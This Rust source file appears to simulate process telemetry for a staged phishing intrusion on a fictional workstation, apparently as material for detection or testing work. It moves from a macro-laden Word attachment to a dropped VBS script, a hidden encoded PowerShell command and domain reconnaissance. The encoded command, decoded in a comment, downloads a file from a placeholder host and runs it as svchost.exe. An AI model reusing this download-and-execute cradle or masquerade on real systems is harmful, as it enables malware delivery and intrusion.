//! The attack on Anna's workstation: a letter, a macro, a script, a shell, and a thread in the
//! editor. Its one breach of the process hierarchy is the tool that calls itself svchost.exe.

use std::rc::Rc;

use super::day_anna::Desk;
use super::desktop::Desktop;
use super::office::{OFFICE, command, loaded};
use super::people::FILES;
use super::{Facts, implant};
use crate::model::host::Host;
use crate::model::launch::Launch;
use crate::model::process::{Process, Record};
use crate::model::time::Time;

const LETTER: &str = r"C:\Users\anna.voss\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7Q2LXK4M\Freight note 4417.docm";
const SCRIPT: &str = r"C:\Users\anna.voss\AppData\Local\Temp\freight.vbs";
/// The shell.
pub(super) const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
/// `iwr https://files.larkspur.example/t/node.bin -OutFile $env:TEMP\svchost.exe; & $env:TEMP\svchost.exe`
const ENCODED: &str = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZgBpAGwAZQBzAC4AbABhAHIAawBzAHAAdQByAC4AZQB4AGEAbQBwAGwAZQAvAHQALwBuAG8AZABlAC4AYgBpAG4AIAAtAE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0AUABcAHMAdgBjAGgAbwBzAHQALgBlAHgAZQA7ACAAJgAgACQAZQBuAHYAOgBUAEUATQBQAFwAcwB2AGMAaABvAHMAdAAuAGUAeABlAA==";

/// The whole attack on this host. Gives the shell, from which the next host is reached.
pub(crate) fn run(host: &mut Host, desk: &Desktop, office: &Desk, facts: &mut Facts) -> Rc<Process> {
    let script = letter(host, office, facts);
    let shell = shell(host, &script);
    discover(host, &shell);
    implant::tool(host, &shell, desk, facts);
    implant::thread(host, &shell, &office.notepad, facts);
    host.end(Time::at(9, 24, 30), &shell);
    shell
}

/// Outlook opens the attachment; Word's macro drops a script and starts it.
fn letter(host: &mut Host, office: &Desk, facts: &mut Facts) -> Rc<Process> {
    let at = Time::at(9, 12, 4);
    host.create(at, &office.outlook, LETTER);
    let word = format!(r"{OFFICE}\WINWORD.EXE");
    let launch = Launch::new(word.as_str(), format!("\"{word}\" /n \"{LETTER}\" /o \"\""));
    let word = host.start(at.plus(5_230), &office.outlook, launch.label("attack winword"));
    loaded(host, at.plus(5_230), &word);
    let macros = r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL";
    host.load(at.plus(17_810), &word, macros);
    host.create(at.plus(26_440), &word, SCRIPT);
    let launch =
        Launch::system32("wscript.exe", format!("\"C:\\Windows\\System32\\wscript.exe\" \"{SCRIPT}\" "));
    let launch = launch.inside(r"C:\Users\anna.voss\Documents\").recorded(Record::Both);
    let script = host.start(at.plus(27_105), &word, launch.label("attack wscript"));
    loaded(host, at.plus(27_105), &script);
    facts.drops.push((Rc::clone(&word), SCRIPT, Rc::clone(&script)));
    host.end(Time::at(9, 21, 16), &word);
    script
}

/// The script starts a hidden shell and ends; the shell is a console program and gets a conhost.
fn shell(host: &mut Host, script: &Rc<Process>) -> Rc<Process> {
    let at = Time::at(9, 12, 33);
    let command = format!("\"{POWERSHELL}\" -NoP -NonI -W Hidden -EncodedCommand {ENCODED}");
    let launch = Launch::new(POWERSHELL, command).recorded(Record::Both);
    let shell = host.start(at, script, launch.label("attack powershell"));
    let conhost = Launch::conhost().label("attack conhost");
    let window = host.start(at.plus(16), &shell, conhost);
    loaded(host, at.plus(30), &shell);
    host.end(at.plus(1_900), script);
    let engine = r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\3f8e0c1d5b7a92e4\System.Management.Automation.ni.dll";
    host.load(at.plus(610), &shell, engine);
    let pipe = format!(r"\PSHost.134339551530000000.{}.DefaultAppDomain.powershell", shell.pid);
    host.pipe(at.plus(790), &shell, &pipe);
    host.visit(at.plus(2_480), &shell, FILES, 443);
    host.create(at.plus(6_020), &shell, implant::TOOL);
    host.end(Time::at(9, 24, 30).plus(8), &window);
    shell
}

/// Console commands of the shell: they share its console, so none has a conhost.
fn discover(host: &mut Host, shell: &Rc<Process>) {
    let at = Time::at(9, 12, 48);
    let whoami = r#""C:\Windows\system32\whoami.exe" /all"#;
    run_labelled(host, shell, at, ("whoami.exe", whoami), "attack whoami");
    let queries = ["user /domain", "group \"Domain Admins\" /domain", "view \\\\SRV-FILE"];
    for (delay, query) in [4_000, 9_500, 15_200].into_iter().zip(queries) {
        let line = format!("\"C:\\Windows\\system32\\net.exe\" {query}");
        let launch = Launch::system32("net.exe", line).label("attack net");
        let net = host.start(at.plus(delay), shell, launch);
        if !query.starts_with("view") {
            let line = format!(r"C:\Windows\system32\net1 {query}");
            let launch = Launch::system32("net1.exe", line).label("attack net1");
            let inner = host.start(at.plus(delay + 40), &net, launch);
            host.end(at.plus(delay + 510), &inner);
        }
        host.end(at.plus(delay + 530), &net);
    }
    let line = r#""C:\Windows\system32\ipconfig.exe" /all"#;
    command(host, shell, at.plus(21_000), ("ipconfig.exe", line), 160);
}

fn run_labelled(
    host: &mut Host,
    shell: &Rc<Process>,
    at: Time,
    (name, line): (&str, &str),
    label: &'static str,
) {
    let process = host.start(at, shell, Launch::system32(name, line).label(label));
    host.end(at.plus(240), &process);
}
